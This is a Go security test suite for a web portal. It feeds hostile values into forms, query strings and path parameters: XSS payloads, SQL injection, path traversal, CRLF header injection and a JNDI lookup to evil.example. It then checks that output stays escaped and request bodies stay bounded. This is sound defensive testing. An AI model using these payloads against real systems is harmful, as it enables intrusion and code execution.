package handlers

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"unicode/utf8"

	"github.com/PuerkitoBio/goquery"
	"golang.org/x/net/html"
)

// Suite 2 of docs/security.md: hostile input in every form field and URL parameter. Stored values
// (from the v2 API) and reflected values (from the request) stay text on every page, partial, toast
// and error page; ids and contract numbers reach the v2 API only as one escaped segment; bodies are
// bounded per route; invalid UTF-8, empty and missing values answer 4xx, never 5xx.

// XSS payloads: a script element, an attribute break-out, an SVG handler and a javascript: URL.
const (
	secXssScript = `<script>alert(1)</script>`
	secXssAttr   = `"><img src=x onerror=alert(1)>`
	secXssSVG    = `'><svg onload=alert(1)>`
	secXssURL    = `javascript:alert(1)`
	secXssAll    = secXssScript + secXssAttr + secXssSVG + secXssURL
)

// secHostileText is a world whose every text field carries the payloads.
func secHostileText() secWorldText {
	attrs, _ := json.Marshal(map[string]any{
		secXssScript: secXssAttr,
		"nested":     map[string]any{"k": secXssScript, "list": []any{secXssAttr, secXssSVG, 1, true, nil}},
		secXssURL:    secXssURL,
		"href":       secXssURL,
	})
	return secWorldText{
		name: "Hostile " + secXssAll, street: secXssAll, city: secXssScript, label: secXssAll,
		contact: secXssAll, signer: secXssAll, message: secXssAll, fileName: secXssAttr + ".pdf",
		attributes: attrs,
	}
}

// injectedMarkup lists what the payloads would create if any reached the page unescaped.
var secRawPayloadMarkers = []string{secXssScript, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`}

// secCheckNoInjectedMarkup parses an HTML answer and fails on anything a payload could have created:
// a <script> other than the page's own static scripts, an on* or hx-on* attribute, a javascript:
// or data: URL in a link-like attribute, js: in hx-vals/hx-headers, an <img src=x>, or the raw
// payload text. Non-HTML answers must not be sniffable as HTML and downloads must have a
// well-formed Content-Disposition. The HX-Trigger header must be valid JSON (app.js parses it).
func secCheckNoInjectedMarkup(t *testing.T, what string, resp response) {
	t.Helper()
	if trigger := resp.Header.Get("HX-Trigger"); trigger != "" && strings.HasPrefix(trigger, "{") && !json.Valid([]byte(trigger)) {
		t.Errorf("%s: HX-Trigger is not valid JSON: %.200q", what, trigger)
	}
	if cd := resp.Header.Get("Content-Disposition"); cd != "" {
		if _, _, err := mime.ParseMediaType(cd); err != nil {
			t.Errorf("%s: Content-Disposition %q does not parse: %v", what, cd, err)
		}
	}
	ct := resp.Header.Get("Content-Type")
	if !strings.HasPrefix(ct, "text/html") {
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %s answer without X-Content-Type-Options: nosniff", what, ct)
		}
		return
	}
	if !utf8.ValidString(resp.body) {
		// The page says charset=utf-8: invalid bytes echoed from the input would be shown as garbage.
		t.Errorf("%s: the HTML answer is not valid UTF-8 (input echoed as is?)", what)
	}
	for _, marker := range secRawPayloadMarkers {
		if strings.Contains(resp.body, marker) {
			t.Errorf("%s: the page contains the unescaped payload %q", what, marker)
		}
	}
	root, err := html.Parse(strings.NewReader(resp.body))
	if err != nil {
		t.Errorf("%s: HTML does not parse: %v", what, err)
		return
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			secCheckElement(t, what, n)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
}

var secUrlAttributes = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "xlink:href": true, "data": true, "poster": true,
	"hx-get": true, "hx-post": true, "hx-put": true, "hx-patch": true, "hx-delete": true, "hx-push-url": true, "hx-replace-url": true,
}

func secCheckElement(t *testing.T, what string, n *html.Node) {
	t.Helper()
	attr := func(name string) string {
		for _, a := range n.Attr {
			if a.Key == name {
				return a.Val
			}
		}
		return ""
	}
	switch n.Data {
	case "script":
		text := ""
		if n.FirstChild != nil {
			text = n.FirstChild.Data
		}
		if !strings.HasPrefix(attr("src"), "/static/") || strings.TrimSpace(text) != "" {
			t.Errorf("%s: a <script> that is not one of the page's static scripts: src=%q text=%.80q", what, attr("src"), text)
		}
	case "iframe", "object", "embed", "base", "frame", "frameset", "applet":
		if n.Data != "iframe" || !strings.HasPrefix(attr("src"), "/") || strings.HasPrefix(attr("src"), "//") {
			t.Errorf("%s: unexpected <%s> element (src %q)", what, n.Data, attr("src"))
		}
	case "img":
		if attr("src") == "x" {
			t.Errorf("%s: an injected <img src=x>", what)
		}
	case "meta":
		if strings.EqualFold(attr("http-equiv"), "refresh") {
			t.Errorf("%s: <meta http-equiv=refresh>", what)
		}
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		if strings.HasPrefix(key, "on") || strings.HasPrefix(key, "hx-on") || strings.HasPrefix(key, "data-hx-on") {
			t.Errorf("%s: <%s> has the event handler attribute %s=%.80q", what, n.Data, a.Key, a.Val)
		}
		val := strings.ToLower(strings.TrimSpace(a.Val))
		val = strings.Map(func(r rune) rune {
			if r < 0x21 {
				return -1 // browsers ignore whitespace and control characters inside the scheme
			}
			return r
		}, val)
		if secUrlAttributes[key] && (strings.HasPrefix(val, "javascript:") || strings.HasPrefix(val, "vbscript:") || strings.HasPrefix(val, "data:text/html")) {
			t.Errorf("%s: <%s %s=%.80q> is a script URL", what, n.Data, a.Key, a.Val)
		}
		if (key == "hx-vals" || key == "hx-headers" || key == "data-hx-vals") && (strings.HasPrefix(val, "js:") || strings.HasPrefix(val, "javascript:")) {
			t.Errorf("%s: <%s %s=%.80q> evaluates script", what, n.Data, a.Key, a.Val)
		}
	}
}

// secShowsPayloadAsText reports whether the page displays the payload as text (proof that the hostile
// value reached the page and was escaped, so the checks above were not vacuous).
func secShowsPayloadAsText(body string) bool {
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(body))
	if err != nil {
		return false
	}
	return strings.Contains(doc.Find("body").Text(), secXssScript) || strings.Contains(doc.Text(), secXssScript)
}

// secWantStillSignedIn fails when a probe was answered as signed out: the probes after it would
// test nothing but the sign-in redirect.
func secWantStillSignedIn(t *testing.T, what string, resp response) {
	t.Helper()
	if resp.StatusCode == http.StatusUnauthorized || strings.HasPrefix(resp.Header.Get("Location"), "/auth/login") ||
		strings.HasPrefix(resp.Header.Get("HX-Redirect"), "/auth/login") {
		t.Fatalf("%s: answered as signed out (%d): a probe ended the session, later probes would be vacuous", what, resp.StatusCode)
	}
}

// secGenericQueryNames are probed on every GET route in addition to the names its pages use.
var secGenericQueryNames = []string{"q", "query", "search", "page", "sort", "order", "tab", "status", "filter", "return_to", "next", "cpqId", "customerId", "quoteId"}

func TestHostileXSSStaysEscapedOnEveryPage(t *testing.T) {
	t.Parallel()
	sp := newSecPortal(t, secOptions{})
	user := sp.login(t, "sales", "sales-demo")
	w := sp.buildWorld(t, sp.tokenOf(t, user), secHostileText())
	samples := w.sampleValues()

	// 1. Every page and partial that can show the hostile world.
	crawled := sp.crawl(t, user, samples)
	shown := 0
	for _, page := range crawled.pages {
		what := fmt.Sprintf("GET %s (htmx %v)", page.url, page.htmx)
		if page.resp.StatusCode >= 500 {
			t.Errorf("%s answered %d", what, page.resp.StatusCode)
		}
		secCheckNoInjectedMarkup(t, what, page.resp)
		if secShowsPayloadAsText(page.resp.body) {
			shown++
		}
	}
	t.Logf("crawled %d pages and partials, %d show a hostile value as text, %d forms found", len(crawled.pages), shown, len(crawled.forms))
	for _, r := range sp.routes {
		if strings.Contains(r.Path, ":customerId") && r.Method == http.MethodGet && shown == 0 {
			t.Errorf("route %s exists but no page showed the hostile customer's data: the check above was vacuous", r.Path)
			break
		}
	}

	// 2. Reflected query values on every GET route (names its pages use, plus common ones).
	for _, r := range sp.protectedRoutes() {
		if r.Method != http.MethodGet {
			continue
		}
		path, err := secBuildPath(r.Path, samples, false)
		if err != nil {
			t.Fatal(err)
		}
		names := map[string]bool{}
		for _, n := range secGenericQueryNames {
			names[n] = true
		}
		for n := range crawled.queryNames[r.Path] {
			names[n] = true
		}
		q := url.Values{}
		for n := range names {
			q.Set(n, secXssAll)
		}
		for _, hdr := range []map[string]string{nil, htmx} {
			resp := sp.get(t, user, path+"?"+q.Encode(), hdr)
			what := fmt.Sprintf("GET %s with hostile query (htmx %v)", path, hdr != nil)
			if resp.StatusCode >= 500 {
				t.Errorf("%s answered %d", what, resp.StatusCode)
			}
			secCheckNoInjectedMarkup(t, what, resp)
		}
	}

	// 3. Reflected path parameters: error pages and toasts.
	for _, r := range sp.protectedRoutes() {
		for _, param := range secRouteParams(r.Path) {
			values := map[string]string{}
			for k, v := range samples {
				values[k] = v
			}
			values[param] = secXssAll
			path, err := secBuildPath(r.Path, values, false)
			if err != nil {
				t.Fatal(err)
			}
			for _, hdr := range []map[string]string{{"Origin": sp.URL}, {"Origin": sp.URL, "HX-Request": "true"}} {
				resp := sp.do(t, user, r.Method, path, nil, hdr)
				what := fmt.Sprintf("%s %s with a hostile :%s (htmx %v)", r.Method, r.Path, param, hdr["HX-Request"] != "")
				if resp.StatusCode >= 500 || resp.StatusCode < 400 {
					t.Errorf("%s answered %d, want 4xx", what, resp.StatusCode)
				}
				secCheckNoInjectedMarkup(t, what, resp)
			}
		}
	}

	// 4. Every form submitted with the payload in every field; the answer (a re-rendered form, a
	// partial, a toast) shows it escaped. Then every page again: stored values stay escaped too.
	for _, f := range crawled.forms {
		values := url.Values{}
		for name := range f.fields {
			values.Set(name, secXssAll)
		}
		resp := sp.submit(t, user, f, values, nil)
		what := fmt.Sprintf("%s %s (from %s) with hostile fields", f.method, f.route.Path, f.source)
		if resp.StatusCode >= 500 {
			t.Errorf("%s answered %d: %.300s", what, resp.StatusCode, resp.body)
		}
		secWantStillSignedIn(t, what, resp)
		secCheckNoInjectedMarkup(t, what, resp)
	}
	for _, page := range sp.crawl(t, user, samples).pages {
		secCheckNoInjectedMarkup(t, fmt.Sprintf("GET %s after hostile forms (htmx %v)", page.url, page.htmx), page.resp)
	}
	secCheckUpstreamRequests(t, "XSS probes", sp.sim.Requests())
}

// submit sends a form as the browser would (same origin; htmx header when the page uses htmx),
// with values replacing the defaults (a nil value deletes the field) and, for multipart forms,
// a small file in each file input unless files says otherwise.
func (sp *secPortal) submit(t *testing.T, client *http.Client, f secFormInfo, values url.Values, files map[string][]byte) response {
	t.Helper()
	return sp.submitHeaders(t, client, f, values, files, nil)
}

// submitHeaders is submit with extra request headers.
func (sp *secPortal) submitHeaders(t *testing.T, client *http.Client, f secFormInfo, values url.Values, files map[string][]byte, extra map[string]string) response {
	t.Helper()
	fields := secMergeQuery(f.fields, values)
	for name, v := range values {
		if v == nil {
			delete(fields, name)
		}
	}
	hdr := map[string]string{"Origin": sp.URL, "Sec-Fetch-Site": "same-origin"}
	if f.htmx {
		hdr["HX-Request"] = "true"
		hdr["HX-Current-URL"] = sp.URL + f.source
	}
	for k, v := range extra {
		hdr[k] = v
	}
	var body io.Reader
	if f.multipart {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		for name, vs := range fields {
			for _, v := range vs {
				_ = mw.WriteField(name, v)
			}
		}
		for _, name := range f.files {
			content, ok := files[name]
			if !ok {
				content = []byte("%PDF-1.4\n% probe\n%%EOF\n")
			}
			part, _ := mw.CreateFormFile(name, secXssAttr+".pdf")
			_, _ = part.Write(content)
		}
		_ = mw.Close()
		body = &buf
		hdr["Content-Type"] = mw.FormDataContentType()
	} else if f.method != http.MethodGet {
		body = strings.NewReader(fields.Encode())
		hdr["Content-Type"] = "application/x-www-form-urlencoded"
	}
	return sp.do(t, client, f.method, f.path, body, hdr)
}

// secHostileIDs are sent in every id parameter: none may reach the v2 API. They are sent escaped, as
// a browser would send them.
var secHostileIDs = []string{
	"0", "-1", "1.5", " 1", "１", "2147483648", "99999999999999999999999", "1;DROP TABLE customers", "..",
	"../../v2/customer/1", "%2e%2e", "1?x=1", "\xff\xfe", "\r\nX-Injected: 1", secXssAll, strings.Repeat("9", 300),
}

// secHostileSegments are sent in every other (text) parameter: they may reach the v2 API only as one
// escaped segment.
var secHostileSegments = append(append([]string(nil), secHostileIDs...),
	".", "../..", "..%2F..%2Fcustomer", "1/../2", "1#frag", "1&cpqId=2", "C-2026-000001/../../customer/1", "C-2026-000001%00",
	"a\x00b", strings.Repeat("C", 5000), "%", "%25", "%2F", "\\..\\..\\", "${jndi:ldap://evil.example/a}", "{{7*7}}",
)

func TestHostilePathParametersReachTheV2APIOnlyAsOneEscapedSegment(t *testing.T) {
	t.Parallel()
	sp := newSecPortal(t, secOptions{})
	user := sp.login(t, "sales", "sales-demo")
	w := sp.buildWorld(t, sp.tokenOf(t, user), secPlainText("paths"))
	samples := w.sampleValues()
	probes, upstream := 0, 0
	for _, r := range sp.protectedRoutes() {
		for _, param := range secRouteParams(r.Path) {
			candidates := secHostileSegments
			if secIsIDParam(param) {
				candidates = secHostileIDs
			}
			for _, hostile := range candidates {
				values := map[string]string{}
				for k, v := range samples {
					values[k] = v
				}
				values[param] = hostile
				path, err := secBuildPath(r.Path, values, false)
				if err != nil {
					t.Fatal(err)
				}
				sp.sim.ResetRequests()
				var body io.Reader
				hdr := map[string]string{"Origin": sp.URL}
				if r.Method != http.MethodGet {
					body = strings.NewReader("quantity=2")
					hdr["Content-Type"] = "application/x-www-form-urlencoded"
				}
				resp := sp.do(t, user, r.Method, path, body, hdr)
				what := fmt.Sprintf("%s %s with :%s=%.40q", r.Method, r.Path, param, hostile)
				probes++
				if resp.StatusCode >= 500 {
					t.Errorf("%s answered %d", what, resp.StatusCode)
				}
				if secIsIDParam(param) && !secCanonicalID.MatchString(hostile) && resp.StatusCode < 400 && resp.StatusCode != http.StatusSeeOther {
					t.Errorf("%s answered %d, want 4xx for an id that is not a number", what, resp.StatusCode)
				}
				reqs := sp.sim.Requests()
				upstream += secCheckUpstreamRequests(t, what, reqs)
				if secIsIDParam(param) {
					for _, rr := range reqs {
						if secContainsValue(rr.RequestURI, hostile) {
							t.Errorf("%s: the malformed id reached the v2 API: %s %s", what, rr.Method, rr.RequestURI)
						}
					}
				}
			}
		}
	}
	t.Logf("%d hostile path parameter probes, %d upstream requests checked", probes, upstream)
}

// secIsIDParam: route parameters named like ids (customerId, quoteId, id...) must be numbers.
func secIsIDParam(name string) bool {
	return name == "id" || strings.HasSuffix(name, "Id") || strings.HasSuffix(name, "ID")
}

// secContainsValue reports whether a request URI carries value (raw or escaped), for values distinctive
// enough to be found (at least three characters, not only digits).
func secContainsValue(requestURI, value string) bool {
	if len(value) < 3 || regexp.MustCompile(`^[0-9]+$`).MatchString(value) {
		return false
	}
	decoded, err := url.PathUnescape(requestURI)
	if err != nil {
		decoded = requestURI
	}
	return strings.Contains(requestURI, url.PathEscape(value)) || strings.Contains(decoded, value)
}

// secCountingReader is an endless request body that counts what the server read.
type secCountingReader struct {
	prefix []byte
	fill   byte
	limit  int64
	read   atomic.Int64
}

func (r *secCountingReader) Read(p []byte) (int, error) {
	n := r.read.Load()
	if n >= r.limit {
		return 0, io.EOF
	}
	i := 0
	for ; i < len(p) && n+int64(i) < r.limit; i++ {
		if pos := n + int64(i); pos < int64(len(r.prefix)) {
			p[i] = r.prefix[pos]
		} else {
			p[i] = r.fill
		}
	}
	r.read.Add(int64(i))
	return i, nil
}

func TestHostileBodiesAreBoundedPerRoute(t *testing.T) {
	t.Parallel()
	sp := newSecPortal(t, secOptions{})
	user := sp.login(t, "sales", "sales-demo")
	w := sp.buildWorld(t, sp.tokenOf(t, user), secPlainText("bodies"))
	samples := w.sampleValues()
	cookie := sp.cookieHeader(user, "/customers")
	const size = 2*formBodyLimit + 4096 // over every limit of the portal
	checked := 0
	for _, r := range sp.routes {
		if !secIsStateChanging(r.Method) {
			continue
		}
		path, err := secBuildPath(r.Path, samples, false)
		if err != nil {
			t.Fatal(err)
		}
		bodies := []struct {
			kind, contentType string
			prefix            string
		}{
			{"form", "application/x-www-form-urlencoded", "quantity=2&name="},
			// The portal's own upload form order: the attachment type, then the file.
			{"multipart", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"attachmentType\"\r\n\r\nOTHER\r\n" +
				"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n"},
		}
		for _, b := range bodies {
			for _, declared := range []bool{true, false} {
				body := &secCountingReader{prefix: []byte(b.prefix), fill: 'a', limit: size}
				req := httptest.NewRequest(r.Method, path, body)
				req.Header.Set("Cookie", cookie)
				req.Header.Set("Content-Type", b.contentType)
				req.Header.Set("Origin", sp.URL)
				req.Header.Set("Sec-Fetch-Site", "same-origin")
				req.ContentLength = -1
				if declared {
					req.ContentLength = size
				}
				sp.sim.ResetRequests()
				rec := httptest.NewRecorder()
				sp.engine.ServeHTTP(rec, req)
				read := body.read.Load()
				what := fmt.Sprintf("%s %s with a %d-byte %s body (length declared %v)", r.Method, r.Path, size, b.kind, declared)
				checked++
				if rec.Code >= 500 {
					t.Errorf("%s answered %d", what, rec.Code)
				}
				if read > formBodyLimit+1 {
					t.Errorf("%s: the portal read %d bytes, more than its largest limit (%d)", what, read, formBodyLimit)
				}
				// Reading past the smallest limit means the handler consumed the body: it must then
				// have hit its route's limit and answered 413.
				if read > secUploadLimit && rec.Code != http.StatusRequestEntityTooLarge {
					t.Errorf("%s: read %d bytes and answered %d, want 413", what, read, rec.Code)
				}
				if rec.Code == http.StatusRequestEntityTooLarge {
					for _, rr := range sp.sim.Requests() {
						if rr.Method != http.MethodGet {
							t.Errorf("%s: answered 413 but sent %s %s upstream (half done)", what, rr.Method, rr.RequestURI)
						}
					}
				}
			}
		}
	}
	if checked == 0 {
		t.Fatal("no state-changing route found")
	}
}

// secEdgeValues are sent in every field of every form, one field at a time.
var secEdgeValues = []string{
	"", "\xff\xfe\xfd", "a\x00b", "-1", "0", "99999999999999999999", "1e309", "NaN", "Infinity", "-0", "0x10",
	" 2 ", "1,5", "١٢", "2.005", "1e-7", strings.Repeat("x", 10000), secXssAll,
}

func TestHostileFormValuesAnswer4xxNever5xx(t *testing.T) {
	t.Parallel()
	sp := newSecPortal(t, secOptions{})
	user := sp.login(t, "sales", "sales-demo")
	w := sp.buildWorld(t, sp.tokenOf(t, user), secPlainText("forms"))
	samples := w.sampleValues()
	crawled := sp.crawl(t, user, samples)
	probes := 0
	probe := func(what string, resp response) {
		t.Helper()
		probes++
		if resp.StatusCode >= 500 {
			t.Errorf("%s answered %d: %.300s", what, resp.StatusCode, resp.body)
		}
		secWantStillSignedIn(t, what, resp)
		secCheckNoInjectedMarkup(t, what, resp)
	}
	sp.sim.ResetRequests()
	for _, f := range crawled.forms {
		base := fmt.Sprintf("%s %s (from %s)", f.method, f.route.Path, f.source)
		empty := url.Values{}
		for name := range f.fields {
			empty.Set(name, "")
		}
		probe(base+" with every field empty", sp.submit(t, user, f, empty, nil))
		missing := url.Values{}
		for name := range f.fields {
			missing[name] = nil
		}
		probe(base+" with every field missing", sp.submit(t, user, f, missing, map[string][]byte{}))
		for name := range f.fields {
			probe(fmt.Sprintf("%s without %s", base, name), sp.submit(t, user, f, url.Values{name: nil}, nil))
			for _, v := range secEdgeValues {
				probe(fmt.Sprintf("%s with %s=%.30q", base, name, v), sp.submit(t, user, f, url.Values{name: {v}}, nil))
			}
		}
		for _, name := range f.files {
			probe(fmt.Sprintf("%s with an empty file %s", base, name), sp.submit(t, user, f, nil, map[string][]byte{name: {}}))
		}
	}
	// Query values on every GET route: invalid UTF-8, empty, absurd numbers.
	for _, r := range sp.protectedRoutes() {
		if r.Method != http.MethodGet {
			continue
		}
		path, err := secBuildPath(r.Path, samples, false)
		if err != nil {
			t.Fatal(err)
		}
		names := append([]string(nil), secGenericQueryNames...)
		for n := range crawled.queryNames[r.Path] {
			names = append(names, n)
		}
		for _, v := range []string{"", "%FF%FE", "-1", "99999999999999999999", "NaN", "%00"} {
			parts := []string{}
			for _, n := range names {
				parts = append(parts, url.QueryEscape(n)+"="+v)
			}
			for _, hdr := range []map[string]string{nil, htmx} {
				probe(fmt.Sprintf("GET %s?…=%s (htmx %v)", r.Path, v, hdr != nil), sp.get(t, user, path+"?"+strings.Join(parts, "&"), hdr))
			}
		}
	}
	secCheckUpstreamRequests(t, "form and query probes", sp.sim.Requests())
	t.Logf("%d forms, %d probes", len(crawled.forms), probes)
}

// app.js shows toasts and announcements from response headers; it must insert them as text. A DOM
// sink in it would turn an escaped server answer back into markup.
func TestHostileAppJSHasNoHTMLSinks(t *testing.T) {
	t.Parallel()
	src, err := os.ReadFile("../../web/static/app.js")
	if err != nil {
		t.Fatal(err)
	}
	for _, sink := range []string{".innerHTML", ".outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function", "setTimeout(\"", "setTimeout('", ".createContextualFragment"} {
		if bytes.Contains(src, []byte(sink)) {
			t.Errorf("web/static/app.js uses %s: insert server-supplied text with textContent instead", sink)
		}
	}
	if !bytes.Contains(src, []byte("textContent")) {
		t.Error("web/static/app.js sets no textContent: how are toasts shown?")
	}
}
